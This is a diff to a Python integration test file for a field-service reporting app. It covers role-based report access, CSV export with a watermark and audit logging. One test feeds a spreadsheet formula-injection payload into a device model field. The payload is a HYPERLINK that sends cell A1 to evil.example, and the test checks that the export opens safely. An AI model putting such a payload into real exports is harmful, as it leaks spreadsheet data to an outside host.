@@ -9,9 +9,9 @@ from sqlmodel import select
 from app.audit.models import AuditEntry
 from app.jobs.models import JobEvent
 from app.reports import export
-from tests.conftest import sign_in
-from tests.integration.after_helpers import completed_job
-from tests.integration.jobs_helpers import post
+from tests.helpers.after import completed_job
+from tests.helpers.clients import sign_in
+from tests.helpers.jobs import post
 
 REPORT_URLS = [
     "/reports/",
@@ -35,8 +35,8 @@ async def test_it_admits_only_the_manager_to_every_report_and_export(client, mak
         assert (await client.get(url)).status_code == 200, url
 
 
-async def test_it_shows_the_month_with_first_time_fix_satisfaction_and_time_rules(client, db, make_user, clock):
-    job = await completed_job(client, db, await make_user("coordinator"))
+async def test_it_shows_the_month_with_first_time_fix_satisfaction_and_time_rules(client, db, make_user, clock, world):
+    job = await completed_job(client, world, await make_user("coordinator"))
     await sign_in(client, await make_user("follow_up"))
     await post(
         client,
@@ -59,10 +59,10 @@ async def test_it_shows_the_month_with_first_time_fix_satisfaction_and_time_rule
     assert "No jobs received in this period." in empty.text and 'data-kpi="ftf">—' in empty.text
 
 
-async def test_it_streams_the_csv_export_with_a_watermark_and_records_it(client, db, make_user):
+async def test_it_streams_the_csv_export_with_a_watermark_and_records_it(client, db, make_user, world):
     coordinator = await make_user("coordinator")
-    first = await completed_job(client, db, coordinator, device_serial="CSV-1")
-    second = await completed_job(client, db, coordinator, device_serial="CSV-2")
+    first = await completed_job(client, world, coordinator, device_serial="CSV-1")
+    second = await completed_job(client, world, coordinator, device_serial="CSV-2")
     manager = await make_user("manager")
     await sign_in(client, manager)
     response = await client.get("/reports/export.csv", params={"period": "2026"})
@@ -79,9 +79,9 @@ async def test_it_streams_the_csv_export_with_a_watermark_and_records_it(client,
     assert "CSV export" in (await client.get("/reports/audit")).text
 
 
-async def test_it_records_a_managers_view_of_customer_data_but_not_a_coordinators(client, db, make_user):
+async def test_it_records_a_managers_view_of_customer_data_but_not_a_coordinators(client, db, make_user, world):
     coordinator = await make_user("coordinator")
-    job = await completed_job(client, db, coordinator)
+    job = await completed_job(client, world, coordinator)
     assert (await client.get(f"/jobs/{job.id}")).status_code == 200
     assert (await db.exec(select(AuditEntry))).all() == []
     manager = await make_user("manager")
@@ -109,9 +109,11 @@ async def test_it_records_a_printed_report(client, db, make_user):
     assert entry.action == "report_print" and entry.record_id == "2026-H2"
 
 
-async def test_it_writes_a_csv_a_spreadsheet_opens_safely_with_local_times_and_labels(client, db, make_user):
+async def test_it_writes_a_csv_a_spreadsheet_opens_safely_with_local_times_and_labels(client, db, make_user, world):
     coordinator = await make_user("coordinator")
-    job = await completed_job(client, db, coordinator, device_model='=HYPERLINK("http://evil.example/?x="&A1,"Help")')
+    job = await completed_job(
+        client, world, coordinator, device_model='=HYPERLINK("http://evil.example/?x="&A1,"Help")'
+    )
     await sign_in(client, await make_user("manager"))
     raw = (await client.get("/reports/export.csv", params={"period": "2026"})).content
     assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel then shows Chinese
